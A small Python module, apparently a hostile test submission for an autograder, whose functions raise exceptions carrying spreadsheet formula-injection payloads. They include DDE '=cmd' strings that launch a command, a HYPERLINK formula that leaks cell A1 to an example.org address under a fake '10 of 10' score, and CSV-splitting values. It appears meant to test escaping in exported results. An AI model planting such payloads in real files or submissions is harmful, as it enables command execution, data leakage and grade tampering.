"""Raises errors that a spreadsheet would take for formulas."""

from hostile.build import NOTHING, solved

POINTS = NOTHING

RAISE = 'def {}(x):\n    raise type("{}", (Exception,), {{}})({!r})'
TEXTS = {
    "double": ("=cmd", "=cmd|' /C calc'!A0"),
    "normalize": ("+1", '=HYPERLINK("https://example.org?" & A1, "10 of 10")'),
    "parallel_square": ("@SUM(A1)", '\t=1+1\r\n"=2+2",=3+3;=4+4'),
    "negate": ("-1", "-2+3+cmd|' /C calc'!A0"),
}


def submission(lesson):
    answers = {name: RAISE.format(name, *text) for name, text in TEXTS.items()}
    return solved(lesson, **answers)
